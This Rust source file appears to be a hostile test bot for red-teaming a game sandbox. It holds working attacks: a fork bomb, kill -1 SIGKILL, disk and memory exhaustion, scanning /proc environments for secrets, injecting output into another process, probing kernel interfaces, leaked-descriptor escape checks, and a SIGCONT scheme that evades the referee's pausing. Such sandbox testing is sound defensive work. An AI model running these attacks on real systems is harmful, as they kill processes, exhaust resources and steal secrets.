//! The hostile fixture bot's attacks (`fixture-bot attack=NAME`), for the
//! sandbox's red-team tests: each is tried when a game starts (`new_game`), and
//! its outcome is written to stderr as `attack NAME: succeeded (...)` or
//! `attack NAME: failed (...)`; then the bot plays on as `first-free` (if it
//! still can). The target of an attack (an address, a path, a pid) is in
//! `FIXTURE_TARGET`. The `sigcont` attack (against fair mode) goes on for
//! the whole game: each answer reports its progress ([`sigcont_report`]).

use std::io::{self, Read, Write};
use std::sync::Mutex;
use std::sync::atomic::{AtomicI32, AtomicU64, Ordering};
use std::time::Duration;

/// Runs attack `name` and reports it on stderr.
pub fn run(name: &str) {
    let target = std::env::var("FIXTURE_TARGET").unwrap_or_default();
    let outcome = match name {
        "connect" => connect(&target),
        "resolve" => resolve(&target),
        "read" => read(&target),
        "write" => write(&target),
        "signal" => signal(&target),
        "kill-all" => kill_all(),
        "fork-bomb" => fork_bomb(),
        "alloc" => alloc(&target),
        "fill-tmp" => fill("/tmp/fill"),
        "big-file" => fill(&target),
        "pipe-write" => pipe_write(&target),
        "environ" => environ(&target),
        "userns" => user_namespace(),
        "kernel" => kernel(),
        "unix-connect" => unix_connect(&target),
        "descriptors" => descriptors(),
        "sigcont" => sigcont(),
        other => Err(format!("no attack {other:?}")),
    };
    let line = match outcome {
        Ok(what) => format!("attack {name}: succeeded ({what})\n"),
        Err(why) => format!("attack {name}: failed ({why})\n"),
    };
    let _ = io::stderr().write_all(line.as_bytes());
}

type Outcome = Result<String, String>;

fn connect(address: &str) -> Outcome {
    let address = address.parse().map_err(|error| format!("{address:?}: {error}"))?;
    let mut stream =
        std::net::TcpStream::connect_timeout(&address, Duration::from_secs(2)).map_err(|e| e.to_string())?;
    stream.write_all(b"stolen\n").map_err(|e| e.to_string())?;
    Ok(format!("connected to {address}"))
}

fn resolve(host: &str) -> Outcome {
    let addresses: Vec<_> = std::net::ToSocketAddrs::to_socket_addrs(&(host, 80))
        .map_err(|e| e.to_string())?
        .collect();
    Ok(format!("{host} is {addresses:?}"))
}

fn read(path: &str) -> Outcome {
    if let Ok(entries) = std::fs::read_dir(path) {
        let names: Vec<_> = entries.filter_map(Result::ok).map(|entry| entry.file_name()).collect();
        return Ok(format!("listed {names:?}"));
    }
    let mut text = String::new();
    std::fs::File::open(path)
        .and_then(|mut file| file.read_to_string(&mut text))
        .map_err(|e| e.to_string())?;
    Ok(format!("read {} bytes", text.len()))
}

/// Creates `pwned` in each folder of the `:`-separated list; succeeds if
/// any was written.
fn write(dirs: &str) -> Outcome {
    let mut written = Vec::new();
    let mut refused = Vec::new();
    for dir in dirs.split(':') {
        let path = std::path::Path::new(dir).join("pwned");
        match std::fs::write(&path, b"pwned\n") {
            Ok(()) => written.push(path.display().to_string()),
            Err(error) => refused.push(format!("{}: {error}", path.display())),
        }
    }
    if written.is_empty() {
        Err(refused.join("; "))
    } else {
        Ok(format!("wrote {written:?}"))
    }
}

/// Lists the processes it can see and SIGKILLs the pid `target`.
fn signal(target: &str) -> Outcome {
    let visible = std::fs::read_dir("/proc")
        .map(|entries| {
            entries
                .filter_map(Result::ok)
                .filter(|entry| entry.file_name().to_string_lossy().parse::<u32>().is_ok())
                .count()
        })
        .unwrap_or(0);
    let pid: libc::pid_t = target.parse().map_err(|_| format!("no pid in {target:?}"))?;
    // SAFETY: kill(2); the attack is the point.
    if unsafe { libc::kill(pid, libc::SIGKILL) } == 0 {
        Ok(format!("killed {pid}; {visible} processes visible"))
    } else {
        Err(format!("{} ({visible} processes visible)", io::Error::last_os_error()))
    }
}

/// `kill -9 -1`: every process it may signal. Never run outside a sandbox.
fn kill_all() -> Outcome {
    // SAFETY: kill(2); the attack is the point.
    if unsafe { libc::kill(-1, libc::SIGKILL) } == 0 {
        Ok("signalled every process it may".to_owned())
    } else {
        Err(io::Error::last_os_error().to_string())
    }
}

/// Forks sleeping children until the system refuses.
fn fork_bomb() -> Outcome {
    for count in 0..100_000 {
        // SAFETY: the child only sleeps (async-signal-safe calls).
        match unsafe { libc::fork() } {
            -1 => {
                return Err(format!(
                    "fork refused after {count} processes: {}",
                    io::Error::last_os_error()
                ));
            }
            0 => loop {
                // SAFETY: pause has no preconditions.
                unsafe { libc::pause() };
            },
            _ => {}
        }
    }
    Ok("forked 100000 processes".to_owned())
}

/// Allocates and touches `target` MiB.
fn alloc(mib: &str) -> Outcome {
    let mib: usize = mib.parse().map_err(|_| format!("no size in {mib:?}"))?;
    let mut blocks = Vec::new();
    for _ in 0..mib {
        blocks.push(vec![1u8; 1 << 20]);
    }
    Ok(format!("holds {} MiB", std::hint::black_box(blocks).len()))
}

/// Writes 10 GB to `path`, a MiB at a time, until the system refuses.
fn fill(path: &str) -> Outcome {
    let mut file = std::fs::File::create(path).map_err(|e| e.to_string())?;
    let chunk = vec![7u8; 1 << 20];
    for written in 0..10_240u64 {
        if let Err(error) = file.write_all(&chunk) {
            return Err(format!("stopped after {written} MiB: {error}"));
        }
    }
    Ok(format!("wrote 10 GiB to {path}"))
}

/// Writes a bogus answer into the stdout of the process `target`.
fn pipe_write(target: &str) -> Outcome {
    let path = format!("/proc/{target}/fd/1");
    let mut pipe = std::fs::OpenOptions::new()
        .write(true)
        .open(&path)
        .map_err(|e| format!("{path}: {e}"))?;
    pipe.write_all(b"{\"type\":\"stone\",\"id\":999,\"cell\":\"z9\"}\n")
        .map_err(|e| e.to_string())?;
    Ok(format!("wrote into {path}"))
}

/// Reads the environment of every process it can see, looking for `needle`
/// (a variable of the organiser's, such as `NAME=`).
fn environ(needle: &str) -> Outcome {
    let mut read = 0;
    for entry in std::fs::read_dir("/proc")
        .map_err(|e| e.to_string())?
        .filter_map(Result::ok)
    {
        let Ok(environ) = std::fs::read(entry.path().join("environ")) else {
            continue;
        };
        read += 1;
        if environ
            .split(|&byte| byte == 0)
            .any(|variable| variable.starts_with(needle.as_bytes()))
        {
            return Ok(format!(
                "found {needle:?} in /proc/{}/environ",
                entry.file_name().to_string_lossy()
            ));
        }
    }
    Err(format!("{needle:?} is in none of the {read} environments it read"))
}

/// Creates a user namespace, where it would hold every capability; a
/// hundred of them would use up the user's quota for the other sandboxes.
fn user_namespace() -> Outcome {
    // SAFETY: unshare(2) changes only this process.
    if unsafe { libc::unshare(libc::CLONE_NEWUSER) } == 0 {
        Ok("entered a new user namespace".to_owned())
    } else {
        Err(io::Error::last_os_error().to_string())
    }
}

/// Calls the kernel's risky interfaces, harmlessly: each call either makes
/// an object that is dropped or asks a question. Succeeds if any call did.
fn kernel() -> Outcome {
    let mut ring_params = [0u8; 120];
    let mut ldt = [0u8; 16];
    // An array map of one 4-byte entry: type 2, key size 4, value size 4, 1 entry.
    let mut map = [0u32; 32];
    map[..4].copy_from_slice(&[2, 4, 4, 1]);
    // SAFETY: each call gets valid buffers of the sizes it expects.
    let calls: [(&str, libc::c_long); 5] = unsafe {
        [
            (
                "io_uring_setup",
                libc::syscall(libc::SYS_io_uring_setup, 1, ring_params.as_mut_ptr()),
            ),
            ("userfaultfd", libc::syscall(libc::SYS_userfaultfd, libc::O_CLOEXEC)),
            ("keyctl", libc::syscall(libc::SYS_keyctl, 0, -3, 1)),
            (
                "bpf",
                libc::syscall(libc::SYS_bpf, 0, map.as_mut_ptr(), std::mem::size_of_val(&map)),
            ),
            (
                "modify_ldt",
                libc::syscall(libc::SYS_modify_ldt, 0, ldt.as_mut_ptr(), ldt.len()),
            ),
        ]
    };
    let mut passed = Vec::new();
    let mut refused = Vec::new();
    for (name, result) in calls {
        if result < 0 {
            refused.push(format!("{name}: {}", io::Error::last_os_error()));
        } else {
            passed.push(name);
        }
    }
    if passed.is_empty() {
        Err(refused.join("; "))
    } else {
        Ok(format!("{} passed; {}", passed.join(", "), refused.join("; ")))
    }
}

/// Connects to the Unix socket at `path` and writes to it.
fn unix_connect(path: &str) -> Outcome {
    let mut stream = std::os::unix::net::UnixStream::connect(path).map_err(|e| format!("{path}: {e}"))?;
    stream.write_all(b"stolen\n").map_err(|e| e.to_string())?;
    Ok(format!("connected to {path}"))
}

/// Looks for descriptors it did not open besides stdin, stdout and stderr
/// (one of the host's folders would let it walk out of the sandbox).
fn descriptors() -> Outcome {
    // SAFETY: fcntl(F_GETFD) only asks about a descriptor.
    let open: Vec<i32> = (3..1024)
        .filter(|&fd| unsafe { libc::fcntl(fd, libc::F_GETFD) } != -1)
        .collect();
    if open.is_empty() {
        Err("no descriptor besides 0, 1 and 2".to_owned())
    } else {
        let targets: Vec<_> = open
            .iter()
            .map(|fd| std::fs::read_link(format!("/proc/self/fd/{fd}")).map(|target| target.display().to_string()))
            .collect();
        Ok(format!("open: {open:?} -> {targets:?}"))
    }
}
/// After an answer of the bot that ran the `sigcont` attack (or its
/// `ready`): the opponent's turn starts.
pub fn sigcont_answered() {
    if let Some(tally) = TALLY.lock().unwrap().as_mut() {
        tally.answered = Some(now_ns());
    }
}

/// How many helpers the `sigcont` attack forks.
const SIGCONT_HELPERS: usize = 4;

/// How many samples of its CPU time each helper keeps (one a millisecond at
/// most: the last second at least).
const SAMPLES: usize = 1024;

/// The part of the opponent's turn that [`sigcont_report`] leaves out at
/// each end: the referee's and the bot's own reaction times, when the bot
/// is not yet paused, or no longer.
const EDGE: Duration = Duration::from_millis(50);

/// The memory that the `sigcont` attack's processes share: the pids to
/// continue (the bot's first), and each helper's samples of its CPU time.
#[repr(C)]
struct Shared {
    pids: [AtomicI32; SIGCONT_HELPERS + 1],
    helpers: [Samples; SIGCONT_HELPERS],
}

/// A helper's CPU time at moments of the monotonic clock, in a ring.
#[repr(C)]
struct Samples {
    /// How many samples were written.
    count: AtomicU64,
    /// (monotonic ns, CPU ns).
    ring: [(AtomicU64, AtomicU64); SAMPLES],
}

impl Samples {
    fn record(&self, at: u64, cpu: u64) {
        let count = self.count.load(Ordering::Relaxed);
        let (time, used) = &self.ring[count as usize % SAMPLES];
        used.store(cpu, Ordering::Relaxed);
        time.store(at, Ordering::Relaxed);
        self.count.store(count + 1, Ordering::Release);
    }

    /// The last sample's time.
    fn last(&self) -> u64 {
        match self.count.load(Ordering::Acquire) {
            0 => 0,
            count => self.ring[(count - 1) as usize % SAMPLES].0.load(Ordering::Relaxed),
        }
    }

    /// The helper's CPU time at `at`: that of its last sample at or before
    /// `at` (none: zero).
    fn cpu_at(&self, at: u64) -> u64 {
        let count = self.count.load(Ordering::Acquire) as usize;
        (count.saturating_sub(SAMPLES)..count)
            .rev()
            .map(|index| &self.ring[index % SAMPLES])
            .find(|(time, _)| time.load(Ordering::Relaxed) <= at)
            .map_or(0, |(_, used)| used.load(Ordering::Relaxed))
    }
}

/// The `sigcont` attack's tally, kept by the bot between its turns.
struct Tally {
    shared: &'static Shared,
    /// When the bot last answered (or got ready), on the monotonic clock.
    answered: Option<u64>,
    /// The opponent's turns so far, less [`EDGE`] at each end, and the
    /// helpers' CPU time in them.
    paused: Duration,
    progress: Duration,
}

static TALLY: Mutex<Option<Tally>> = Mutex::new(None);

/// Defeats fair mode's SIGSTOP: forks helpers that leave the bot's process
/// group (`setsid`), burn CPU all the time, and keep sending SIGCONT to each
/// other and to the bot. Each answer of the bot then reports how much CPU
/// its helpers got during the opponent's turns ([`sigcont_report`]).
fn sigcont() -> Outcome {
    // SAFETY: a fresh shared anonymous mapping, zeroed: valid atomics.
    let shared: &'static Shared = unsafe {
        let memory = libc::mmap(
            std::ptr::null_mut(),
            std::mem::size_of::<Shared>(),
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_SHARED | libc::MAP_ANONYMOUS,
            -1,
            0,
        );
        if memory == libc::MAP_FAILED {
            return Err(io::Error::last_os_error().to_string());
        }
        &*memory.cast::<Shared>()
    };
    shared.pids[0].store(std::process::id() as i32, Ordering::Relaxed);
    for index in 0..SIGCONT_HELPERS {
        // SAFETY: the bot has one thread here; the child runs `continuer`.
        match unsafe { libc::fork() } {
            -1 => return Err(io::Error::last_os_error().to_string()),
            0 => continuer(shared, index),
            pid => shared.pids[index + 1].store(pid, Ordering::Relaxed),
        }
    }
    *TALLY.lock().unwrap() = Some(Tally {
        shared,
        answered: None,
        paused: Duration::ZERO,
        progress: Duration::ZERO,
    });
    Ok(format!("{SIGCONT_HELPERS} helpers continue each other and the bot"))
}

/// A `sigcont` helper: burns CPU in slices of a few microseconds, and after
/// each samples its CPU time (once a millisecond) and continues every other
/// process of the attack; the first helper also forks a short-lived process
/// each time that does the same (a process the referee's last look at the
/// bot's processes may have missed).
fn continuer(shared: &Shared, index: usize) -> ! {
    // SAFETY: setsid has no preconditions.
    unsafe { libc::setsid() };
    super::record_pid();
    let samples = &shared.helpers[index];
    let mut x = 1u64;
    loop {
        for _ in 0..5_000 {
            x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
        }
        let now = now_ns();
        if now >= samples.last() + 1_000_000 {
            samples.record(now, clock_ns(libc::CLOCK_PROCESS_CPUTIME_ID));
        }
        continue_all(shared);
        if index == 0 {
            // SAFETY: the helper has one thread; the child only signals and exits.
            match unsafe { libc::fork() } {
                0 => {
                    continue_all(shared);
                    // SAFETY: _exit has no preconditions.
                    unsafe { libc::_exit(0) }
                }
                // SAFETY: reaping this helper's exited children, without waiting.
                _ => while unsafe { libc::waitpid(-1, std::ptr::null_mut(), libc::WNOHANG) } > 0 {},
            }
        }
    }
}

/// SIGCONT to every process of the `sigcont` attack but this one.
fn continue_all(shared: &Shared) {
    // SAFETY: getpid has no preconditions.
    let me = unsafe { libc::getpid() };
    for pid in &shared.pids {
        let pid = pid.load(Ordering::Relaxed);
        if pid != 0 && pid != me {
            // SAFETY: kill(2); the attack is the point.
            unsafe { libc::kill(pid, libc::SIGCONT) };
        }
    }
}

/// The time of `clock`, in nanoseconds.
fn clock_ns(clock: libc::clockid_t) -> u64 {
    let mut time = libc::timespec { tv_sec: 0, tv_nsec: 0 };
    // SAFETY: the call writes the time into the struct it is given.
    unsafe { libc::clock_gettime(clock, &mut time) };
    time.tv_sec as u64 * 1_000_000_000 + time.tv_nsec as u64
}

fn now_ns() -> u64 {
    clock_ns(libc::CLOCK_MONOTONIC)
}

/// At a request, after the `sigcont` attack: adds the opponent's turn that
/// just ended, less [`EDGE`] at each end, to the tally, and returns the
/// tally as the answer's extra fields,
/// `"info":{"comment":"paused-us=P helpers-us=H"}`: those turns' time so
/// far, and the CPU time the helpers got in them (by their samples). Empty
/// if the attack did not run.
pub fn sigcont_report() -> String {
    let mut tally = TALLY.lock().unwrap();
    let Some(tally) = tally.as_mut() else {
        return String::new();
    };
    let edge = EDGE.as_nanos() as u64;
    if let Some(answered) = tally.answered.take() {
        let (from, to) = (answered + edge, now_ns().saturating_sub(edge));
        if from < to {
            tally.paused += Duration::from_nanos(to - from);
            let used: u64 = tally
                .shared
                .helpers
                .iter()
                .map(|samples| samples.cpu_at(to).saturating_sub(samples.cpu_at(from)))
                .sum();
            tally.progress += Duration::from_nanos(used);
        }
    }
    format!(
        ",\"info\":{{\"comment\":\"paused-us={} helpers-us={}\"}}",
        tally.paused.as_micros(),
        tally.progress.as_micros()
    )
}
